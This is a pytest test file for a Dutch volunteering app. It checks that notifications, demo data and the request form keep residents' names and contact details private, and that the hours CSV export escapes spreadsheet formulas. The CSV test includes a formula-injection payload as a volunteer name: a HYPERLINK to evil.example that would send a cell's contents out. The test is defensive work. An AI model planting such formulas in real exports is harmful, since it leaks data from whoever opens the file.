"""Review findings on privacy: notifications (e-mailed by default, the title is the subject)
never name a resident, the demo puts no names in descriptions, the request form warns against
it, and the hours CSV is safe to open in a spreadsheet."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from django_scopes import scope, scopes_disabled

from tests.factories import MembershipFactory, NetworkFactory
from wijknet.notifications import kinds
from wijknet.notifications.models import Notification
from wijknet.volunteering import services
from wijknet.volunteering.demo import load_demo_volunteering
from wijknet.volunteering.forms import HelpRequestForm
from wijknet.volunteering.jobs import send_due_followups
from wijknet.volunteering.models import FollowUp, HelpRequest, HoursEntry, VolunteerProfile

from .helpers import make_request, make_volunteer

SEEKER_NAME = "Mevrouw Geertruida Zonnebloem"
SEEKER_CONTACT = "Lindelaan 99, 0599-777888"
PHONE_SEEKER = "Meneer Barend Hooiberg"
PHONE_CONTACT = "0599-123987"
PHONE_VOLUNTEER = "Klaasje Telefoonloos"


def membership_of(user, network):
    with scopes_disabled():
        return user.memberships.get(network=network, ended_at__isnull=True)


def all_notification_text():
    with scopes_disabled():
        return [
            (n.kind, f"{n.title}\n{n.body}\n{n.url}") for n in Notification.objects.order_by("pk")
        ]


@pytest.mark.django_db
def test_no_resident_name_or_contact_in_any_notification_across_the_lifecycle(
    network, members, coordinator
):
    coord = (coordinator, membership_of(coordinator, network))
    second_coordinator = MembershipFactory(network=network, role="coordinator").user
    volunteer_user = members["partner"]
    seeker_user = members["citizen"]
    # A nearby volunteer who wants to hear of new requests in Zuiderveen.
    make_volunteer(
        network, "Buur", user=members["core"], wants_area_notifications=True, place="Zuiderveen"
    )
    with scope(network=network):
        # 1. A request on behalf of someone (nearby notification) and one for oneself.
        on_behalf = services.help_request_create(
            acting_user=volunteer_user,
            network=network,
            seeker_name=SEEKER_NAME,
            seeker_contact=SEEKER_CONTACT,
            kind="boodschappen",
            place="Zuiderveen",
            description="Wekelijks boodschappen doen",
        )
        own = services.help_request_create(
            acting_user=seeker_user,
            network=network,
            for_self=True,
            kind="vervoer",
            place="Zuiderveen",
            description="Naar het ziekenhuis",
        )
        # 2. Propose, accept and start: volunteers with an account…
        volunteer = make_volunteer(network, "Vera Vrijwilliger", user=volunteer_user)
        with_accounts = services.match_propose(
            acting_user=coord[0], membership=coord[1], help_request=own, volunteer=volunteer
        )
        services.match_transition(
            acting_user=volunteer_user,
            membership=membership_of(volunteer_user, network),
            match=with_accounts,
            to="akkoord",
        )
        services.match_transition(
            acting_user=coord[0], membership=coord[1], match=with_accounts, to="lopend"
        )
        # … and without (the coordinator phones).
        phone_volunteer = make_volunteer(network, PHONE_VOLUNTEER, contact="06-99999999")
        phone_request = services.help_request_create(
            acting_user=coord[0],
            network=network,
            seeker_name=PHONE_SEEKER,
            seeker_contact=PHONE_CONTACT,
            kind="tuin",
            place="Oudeveen",
        )
        by_phone = services.match_propose(
            acting_user=coord[0],
            membership=coord[1],
            help_request=phone_request,
            volunteer=phone_volunteer,
        )
        for to in ("akkoord", "lopend"):
            services.match_transition(
                acting_user=coord[0], membership=coord[1], match=by_phone, to=to
            )
        services.match_propose(
            acting_user=coord[0],
            membership=coord[1],
            help_request=on_behalf,
            volunteer=make_volunteer(network, "Buurvrouw", user=members["viewer"]),
        )
    # 3. The follow-ups (6 and 8 weeks) for both matches.
    assert send_due_followups(timezone.now() + timedelta(weeks=9)) == 4
    # 4. Negative answers: from the help-seeker with an account and recorded by a coordinator.
    with scope(network=network):
        services.followup_answer(
            acting_user=seeker_user,
            membership=membership_of(seeker_user, network),
            followup=FollowUp.objects.get(match=with_accounts, audience="hulpvrager"),
            answer="niet_goed",
        )
        services.followup_answer(
            acting_user=second_coordinator,
            membership=membership_of(second_coordinator, network),
            followup=FollowUp.objects.get(match=by_phone, audience="hulpvrager"),
            answer="niet_goed",
        )

    texts = all_notification_text()
    assert {kind for kind, _text in texts} == {
        kinds.HELP_REQUEST_NEARBY,
        kinds.MATCH_PROPOSED,
        kinds.FOLLOWUP_DUE,
        kinds.FOLLOWUP_SIGNAL,
    }
    forbidden = [
        SEEKER_NAME,
        "Zonnebloem",
        SEEKER_CONTACT,
        "0599-777888",
        PHONE_SEEKER,
        "Hooiberg",
        PHONE_CONTACT,
        seeker_user.full_name,
        PHONE_VOLUNTEER,
        "06-99999999",
        "Vera Vrijwilliger",
    ]
    leaks = [(kind, word) for kind, text in texts for word in forbidden if word in text]
    assert leaks == []


@pytest.mark.django_db
def test_phone_followup_and_signal_name_the_kind_and_place(network, coordinator):
    coord = (coordinator, membership_of(coordinator, network))
    other = MembershipFactory(network=network, role="coordinator").user
    help_request = make_request(network, seeker_name=PHONE_SEEKER, kind="tuin", place="Oudeveen")
    with scope(network=network):
        match = services.match_propose(
            acting_user=coord[0],
            membership=coord[1],
            help_request=help_request,
            volunteer=make_volunteer(network, PHONE_VOLUNTEER),
        )
        for to in ("akkoord", "lopend"):
            services.match_transition(acting_user=coord[0], membership=coord[1], match=match, to=to)
    send_due_followups(timezone.now() + timedelta(weeks=9))
    with scope(network=network):
        services.followup_answer(
            acting_user=other,
            membership=membership_of(other, network),
            followup=FollowUp.objects.get(match=match, audience="vrijwilliger"),
            answer="niet_goed",
        )
        due = list(
            Notification.objects.filter(recipient=coordinator, kind=kinds.FOLLOWUP_DUE)
            .order_by("pk")
            .values_list("title", flat=True)
        )
        signal = Notification.objects.get(recipient=coordinator, kind=kinds.FOLLOWUP_SIGNAL)
    assert due == [
        "Bel de vrijwilliger: hoe gaat de hulp bij tuin in Oudeveen? (na 6 weken)",
        "Bel de hulpvrager: hoe gaat de hulp bij tuin in Oudeveen? (na 8 weken)",
    ]
    assert signal.title == "Signaal: het gaat niet goed met de hulp bij tuin in Oudeveen"
    assert signal.url == services.match_url(match)


DESCRIPTION_HELP = (
    "Zet hier geen naam, adres of telefoonnummer in: die ziet een vrijwilliger pas als hij of "
    "zij heeft ingestemd."
)


def test_request_form_warns_against_names_in_the_description():
    assert str(HelpRequestForm().fields["description"].help_text) == DESCRIPTION_HELP


@pytest.mark.django_db
def test_request_form_page_shows_the_warning(client, network, members):
    client.force_login(members["citizen"])
    response = client.get(
        reverse("volunteering:request_create", kwargs={"network_slug": network.slug})
    )
    assert response.status_code == 200
    assert DESCRIPTION_HELP in response.content.decode()


@pytest.mark.django_db
def test_demo_descriptions_name_nobody():
    network = NetworkFactory(slug="zuiderveen", name="Dorpsnetwerk Zuiderveen")
    coordinator = MembershipFactory(
        network=network, role="coordinator", user__email="dorpsondersteuner@demo.wijknet.nl"
    ).user
    jeroen = MembershipFactory(
        network=network, role="partner", user__email="kerngroep@demo.wijknet.nl"
    ).user
    with scope(network=network):
        load_demo_volunteering(network, {u.email: u for u in (coordinator, jeroen)})
        requests = list(HelpRequest.objects.order_by("pk"))
        names = {r.seeker_name for r in requests} | set(
            VolunteerProfile.objects.values_list("name", flat=True)
        )
        notes = list(Notification.objects.order_by("pk"))
    # Surnames and forms of address ("Mevrouw de Boer", "Meneer Hoving").
    words = {part for name in names for part in name.split() if part[:1].isupper()}
    words |= {"Mevrouw", "Meneer", "Familie"}
    words.discard("Grietje")  # checked below as a whole name
    for help_request in requests:
        for word in words:
            assert word not in help_request.description, (word, help_request.description)
    for note in notes:
        for name in names:
            assert name not in note.title + note.body


@pytest.mark.django_db
def test_hours_csv_neutralises_spreadsheet_formulas(client, network, coordinator):
    evil = make_volunteer(network, '=HYPERLINK("http://evil.example/?x="&A1,"klik")')
    plus = make_volunteer(network, "+31 6 1234")
    minus = make_volunteer(network, "-Min")
    at = make_volunteer(network, "@SUM(A1)")
    tab = make_volunteer(network, "\tTab")
    plain = make_volunteer(network, "Gewone Naam")
    today = timezone.localdate()
    with scopes_disabled():
        for volunteer in (evil, plus, minus, at, tab, plain):
            HoursEntry.objects.create(
                network=network, volunteer=volunteer, date=today, hours=1, kind="boodschappen"
            )
    client.force_login(coordinator)
    response = client.get(reverse("volunteering:hours_csv", kwargs={"network_slug": network.slug}))
    assert response.status_code == 200
    content = response.content.decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(content)))
    names = sorted(row[0] for row in rows[1:])
    assert names == sorted(
        [
            '\'=HYPERLINK("http://evil.example/?x="&A1,"klik")',
            "'+31 6 1234",
            "'-Min",
            "'@SUM(A1)",
            "'\tTab",
            "Gewone Naam",
        ]
    )
    assert all(row[3] == "1.00" for row in rows[1:])
